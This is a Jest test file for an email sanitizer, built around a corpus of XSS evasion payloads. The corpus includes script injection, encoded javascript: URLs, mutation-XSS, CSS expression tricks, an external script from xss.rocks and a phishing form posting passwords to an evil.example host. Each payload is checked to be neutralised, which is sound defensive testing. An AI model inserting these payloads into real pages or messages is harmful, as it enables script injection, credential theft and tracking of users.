import { sanitizeMailHtml } from './mailHtml';

/*
 * The XSS corpus: classic filter evasions (OWASP cheat sheet), mutation XSS
 * through parser differences, encoded and whitespace-split URL schemes, CSS
 * that executes or loads, and tracking images. Every output is checked by the
 * same invariants — allowed tags only, no handlers, only safe URLs, no remote
 * loads while images are blocked — so a vector that survives in a form
 * nobody thought of still fails.
 */

const ATTACHMENT_URL = '/api/mail/messages/m1/attachments/0';
const options = (remoteImages = false) => ({
  remoteImages,
  attachments: [{ contentId: '<logo@corp.example>', index: 0, url: ATTACHMENT_URL }],
});

const ALLOWED_OUTPUT_TAGS = new Set([
  'address', 'article', 'aside', 'footer', 'header', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hgroup', 'main', 'nav', 'section',
  'blockquote', 'dd', 'div', 'dl', 'dt', 'figcaption', 'figure', 'hr', 'li', 'menu', 'ol', 'p', 'pre', 'ul',
  'a', 'abbr', 'b', 'bdi', 'bdo', 'br', 'cite', 'code', 'dfn', 'em', 'i', 'kbd', 'mark', 'q', 'rb', 'rp', 'rt', 'rtc', 'ruby',
  's', 'samp', 'small', 'span', 'strong', 'sub', 'sup', 'time', 'u', 'var', 'wbr',
  'caption', 'col', 'colgroup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr',
  'img', 'font', 'center', 'big', 'strike', 'tt', 'del', 'ins', 'nobr', 'style',
]);

const decode = (v: string) =>
  v
    .replace(/&#x([0-9a-f]+);?/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_m, d: string) => String.fromCodePoint(parseInt(d, 10)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

// eslint-disable-next-line no-control-regex
const squeeze = (v: string) => v.replace(/[\u0000-\u0020]/g, '').toLowerCase();

const SAFE_IMAGE_SRC = /^(?:data:image\/(?:png|gif|jpe?g|webp|bmp);base64,|\/api\/mail\/messages\/)/;
const DANGEROUS_CSS = /expression|javascript|vbscript|behavio|binding|@import|@font-face|\\|</;

/** Everything that must hold for any sanitized output. */
function expectSafe(html: string, remoteImages = false) {
  const { html: out } = sanitizeMailHtml(html, options(remoteImages));
  // at most one <style>, in front (ours)
  const styleAt = [...out.matchAll(/<style>/g)].map(m => m.index);
  expect(styleAt.length <= 1 && (styleAt.length === 0 || styleAt[0] === 0)).toBe(true);
  const css = /^<style>([\s\S]*?)<\/style>/.exec(out)?.[1] ?? '';
  const markup = out.slice(css ? css.length + 15 : 0);
  expect(markup).not.toMatch(/<style/i);

  for (const m of markup.matchAll(/<\/?([a-zA-Z][^\s/>]*)/g)) expect(ALLOWED_OUTPUT_TAGS).toContain(m[1].toLowerCase());
  for (const tag of markup.matchAll(/<[a-zA-Z][^>]*>/g)) {
    // attributes are always written name="value" with the value escaped
    const rest = tag[0].replace(/^<[a-zA-Z][^\s/>]*/, '').replace(/\/?>$/, '');
    const attrs = [...rest.matchAll(/\s*([^\s=]+)="([^"]*)"/g)];
    expect(attrs.map(a => a[0]).join('').trim()).toBe(rest.trim());
    for (const [, name, raw] of attrs) {
      const value = decode(raw);
      expect(name.toLowerCase()).not.toMatch(/^on|^xmlns|^xlink|^formaction$|^action$|^srcdoc$|^http-equiv$/);
      const v = squeeze(value);
      if (name === 'href') expect(v).toMatch(/^(?:https?:\/\/[^/]|mailto:|#)/);
      if (name === 'src') expect(remoteImages ? /^(?:https?:\/\/[^/])/.test(v) || SAFE_IMAGE_SRC.test(v) : SAFE_IMAGE_SRC.test(v)).toBe(true);
      if (name === 'background') expect(remoteImages ? /^(?:https?:|\/api\/mail\/)/.test(v) : v.startsWith('/api/mail/')).toBe(true);
      if (name === 'srcset') expect(remoteImages).toBe(true);
      if (name === 'style') {
        expect(v).not.toMatch(DANGEROUS_CSS);
        if (!remoteImages) expect(v).not.toMatch(/url\("?(?:https?:|\/\/)/);
      }
      expect(v).not.toMatch(/^(?:javascript|vbscript|data:text|livescript):/);
    }
  }
  const squeezedCss = squeeze(decode(css));
  expect(squeezedCss).not.toMatch(DANGEROUS_CSS);
  for (const u of squeezedCss.matchAll(/url\(([^)]*)\)/g)) {
    expect(u[1]).toMatch(remoteImages ? /^"(?:https?:|data:image\/|\/api\/mail\/)/ : /^"(?:data:image\/|\/api\/mail\/)/);
  }
  return out;
}

const tracker = 'https://track.example/pixel.gif';

const VECTORS: Array<[string, string]> = [
  ['script element', '<script>alert(1)</script>'],
  ['external script', '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>'],
  ['img src with a javascript URL', `<IMG SRC="javascript:alert('XSS');">`],
  ['mixed-case scheme', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['decimal entities without semicolons', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex entities', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['named entities in link', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
  ['tab entity in scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['literal tab in scheme', '<a href="jav\tascript:alert(1)">x</a>'],
  ['newline entity in scheme', '<a href="java&#x0A;script:alert(1)">x</a>'],
  ['carriage return in img scheme', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['leading control characters', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data:text/html image', '<img src="data:text/html,<script>alert(1)</script>">'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['javascript link with handler', '<a href="javascript:alert(1)" onclick="alert(1)">x</a>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'],
  ['svg animate href', '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['math href', '<math href="javascript:alert(1)">click</math>'],
  ['body onload', '<body onload=alert(1)>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['div onmouseover', '<div onmouseover="alert(1)">hover</div>'],
  ['malformed img quotes', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['double open bracket', '<<SCRIPT>alert("XSS");//<</SCRIPT>'],
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mXSS template', '<template><img src=x onerror=alert(1)></template>'],
  ['mXSS math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['mXSS svg/style', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['xmp raw text', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['conditional comment', `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
  ['meta refresh javascript', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base href', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['phishing form', '<form action="https://evil.example/steal"><input name=p type=password><button>登录</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['input image', '<input type="image" src="javascript:alert(1)">'],
  ['isindex', '<isindex action="javascript:alert(1)" type=image>'],
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['video poster', '<video poster="javascript:alert(1)"></video>'],
  ['style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style expression split by comment', '<div style="width:expr/*XSS*/ession(alert(1))">x</div>'],
  ['style expression hex escape', '<div style="width:e\\78pression(alert(1))">x</div>'],
  ['style behavior', '<div style="behavior: url(xss.htc)">x</div>'],
  ['style -moz-binding', '<div style="-moz-binding: url(https://evil.example/xss.xml#xss)">x</div>'],
  ['style url(javascript:)', '<div style="background-image: url(javascript:alert(1))">x</div>'],
  ['style escaped url(javascript:)', `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">x</DIV>`],
  ['style data:text/html background', '<div style="background: url(data:text/html;base64,PHNjcmlwdD4=)">x</div>'],
  ['@import', `<style>@import 'https://evil.example/x.css';</style>`],
  ['@import url', '<style>@import url(https://evil.example/x.css); p{color:red}</style>'],
  ['stylesheet url(javascript:)', '<style>body{background:url("javascript:alert(1)")}</style>'],
  ['list-style-image javascript', `<style>li {list-style-image: url("javascript:alert('XSS')");}</style><ul><li>XSS</li></ul>`],
  ['stylesheet escaped url', '<style>.x{background:u\\72l(https://track.example/p.png)}</style><p class="x">x</p>'],
  ['stylesheet breaking out of style', '<style>p{color:red}</style ><script>alert(1)</script>'],
  ['style closing inside css string', `<style>p{font-family:"</style><script>alert(1)</script>"}</style>`],
  ['@font-face tracking', '<style>@font-face{font-family:x;src:url(https://track.example/f.woff)}</style>'],
  ['css escape for less-than', '<style>p{color:red}\\3c /style\\3e \\3c script\\3e alert(1)</style>'],
  ['tracking pixel', `<img src="${tracker}" width="1" height="1">`],
  ['protocol-relative tracking pixel', '<img src="//track.example/x.png">'],
  ['srcset tracking and javascript', `<img srcset="${tracker} 1x, javascript:alert(1) 2x">`],
  ['table background', `<table background="${tracker}"><tr><td>x</td></tr></table>`],
  ['td background javascript', '<table><tr><td background="javascript:alert(1)">x</td></tr></table>'],
  ['inline style remote background', `<div style="background:url(&quot;${tracker}&quot;)">x</div>`],
  ['stylesheet remote background', `<style>.hero{background-image:url(${tracker})}</style>`],
  ['fake placeholder attributes', '<img src="cid:logo@corp.example" data-attachment-index="99" data-remote-image="ok">'],
  ['position fixed overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">登录已过期</div>'],
  ['protocol-relative link', '<a href="//evil.example/login">x</a>'],
  ['relative link into the portal', '<a href="/api/mail/accounts">x</a>'],
];

describe('sanitizeMailHtml: XSS corpus', () => {
  it('has a corpus of at least 40 vectors', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(40);
  });

  // eslint-disable-next-line jest/expect-expect -- the assertions are expectSafe's
  it.each(VECTORS)('%s', (_name, html) => {
    expectSafe(html, false);
    expectSafe(html, true);
  });

  it('never lets an alert through, whatever the form', () => {
    for (const [, html] of VECTORS) {
      for (const remote of [false, true]) {
        const out = sanitizeMailHtml(html, options(remote)).html;
        // the word may remain as escaped text (harmless); never in a tag or attribute
        for (const tag of out.matchAll(/<[a-zA-Z][^>]*>/g)) expect(tag[0]).not.toMatch(/alert|evil\.example|xss/i);
      }
    }
  });
});

describe('sanitizeMailHtml: remote images', () => {
  it('replaces and counts remote images, backgrounds and CSS urls while blocked', () => {
    const html = [
      `<img src="${tracker}" alt="logo" width="120">`,
      `<img srcset="${tracker} 2x">`,
      `<table background="${tracker}"><tr><td style="background-image:url(${tracker});color:red">x</td></tr></table>`,
      `<style>.a{background:url('${tracker}')} .b{color:blue}</style>`,
    ].join('');
    const { html: out, remoteImagesBlocked } = sanitizeMailHtml(html, options(false));
    expect(remoteImagesBlocked).toBe(5);
    expect(out).not.toContain('track.example');
    expect(out).toContain('<img alt="logo" width="120" data-remote-image="blocked" src="data:image/gif;base64,');
    expect(out).toContain('data-remote-image="blocked"');
    // what was not a URL is kept
    expect(out).toContain('style="color:red"');
    expect(out).toContain('.b{color:blue}');
  });

  it('loads them without a referrer once allowed', () => {
    const { html: out, remoteImagesBlocked } = sanitizeMailHtml(`<img src="${tracker}"><img src="//cdn.example/a.png"><div style="background:url(${tracker})">x</div>`, options(true));
    expect(remoteImagesBlocked).toBe(0);
    expect(out).toContain(`<img src="${tracker}" referrerpolicy="no-referrer" />`);
    expect(out).toContain('<img src="https://cdn.example/a.png" referrerpolicy="no-referrer" />');
    expect(out).toContain(`background:url(&quot;${tracker}&quot;)`);
  });

  it('points cid: images at the attachment and drops unknown ones', () => {
    const { html: out } = sanitizeMailHtml('<img src="cid:LOGO@corp.example"><img src="cid:other@x"><div style="background:url(cid:logo@corp.example)">x</div>', options(false));
    expect(out).toContain(`<img src="${ATTACHMENT_URL}" data-attachment-index="0" />`);
    expect(out).toContain('<img />');
    expect(out).toContain(`background:url(&quot;${ATTACHMENT_URL}&quot;)`);
  });
});

describe('sanitizeMailHtml: benign mail formatting survives', () => {
  const newsletter = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>月度通讯</title>
<style type="text/css">
  body { margin:0; font-family: "Microsoft YaHei", "微软雅黑", sans-serif; }
  .title { color: #c00; font-size: 20px; font-weight: bold !important; }
  table.grid td { border: 1px solid #ddd; padding: 4px 8px; }
  @media only screen and (max-width: 600px) { .col { width: 100% !important; } }
</style></head>
<body bgcolor="#f5f5f5" style="margin:0;padding:0">
<center><table width="600" cellpadding="0" cellspacing="0" border="0" align="center" class="grid">
<tr><td class="title" align="left" valign="top">合同续签提醒</td><td bgcolor="#eeeeee" class="col">报价单</td></tr>
<tr><td colspan="2"><font face="宋体" color="#333333" size="3">您好，<b>张经理</b>：</font>
<p style="color:#333333;line-height:1.6;text-align:justify">请查收附件中的<i>合同</i>与<u>报价</u>。</p>
<ul><li>第一项</li><li>第二项</li></ul>
<a href="https://www.example.com/contract?id=1&amp;v=2">查看合同</a> · <a href="mailto:sales@corp.example">联系我们</a>
<img src="cid:logo@corp.example" alt="公司标志" width="80" height="40">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="点">
<hr><blockquote type="cite">原邮件</blockquote></td></tr></table></center></body></html>`;

  it('keeps tables, fonts, colours, lists, links, inline and cid images and the stylesheet', () => {
    const { html: out, remoteImagesBlocked } = sanitizeMailHtml(newsletter, options(false));
    expect(remoteImagesBlocked).toBe(0);
    expect(out).toMatch(/^<style>/);
    expect(out).toContain('.title{color:#c00;font-size:20px;font-weight:bold !important}');
    expect(out).toContain('table.grid td{border:1px solid #ddd;padding:4px 8px}');
    expect(out).toContain('@media only screen and (max-width: 600px){.col{width:100% !important}}');
    expect(out).toContain('font-family:"Microsoft YaHei", "微软雅黑", sans-serif');
    expect(out).toContain('<div bgcolor="#f5f5f5" style="margin:0;padding:0">');
    expect(out).toContain('<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" class="grid">');
    expect(out).toContain('<td bgcolor="#eeeeee" class="col">报价单</td>');
    expect(out).toContain('<font face="宋体" color="#333333" size="3">您好，<b>张经理</b>：</font>');
    expect(out).toContain('<p style="color:#333333;line-height:1.6;text-align:justify">');
    expect(out).toContain('<a href="https://www.example.com/contract?id=1&amp;v=2" target="_blank" rel="noopener noreferrer">查看合同</a>');
    expect(out).toContain('<a href="mailto:sales@corp.example" target="_blank" rel="noopener noreferrer">联系我们</a>');
    expect(out).toContain(`<img alt="公司标志" width="80" height="40" src="${ATTACHMENT_URL}" data-attachment-index="0" />`);
    expect(out).toContain('<img alt="点" src="data:image/png;base64,iVBORw0KGgo=" />');
    expect(out).toContain('<ul><li>第一项</li><li>第二项</li></ul>');
    expect(out).toContain('<blockquote type="cite">原邮件</blockquote>');
    // the head's title is not body text
    expect(out).not.toContain('月度通讯');
    expectSafe(newsletter);
  });

  it('links in-page anchors without opening a window', () => {
    const { html: out } = sanitizeMailHtml('<a href="#top">回到顶部</a><a name="top"></a>', options(false));
    expect(out).toBe('<a href="#top">回到顶部</a><a name="top"></a>');
  });
});
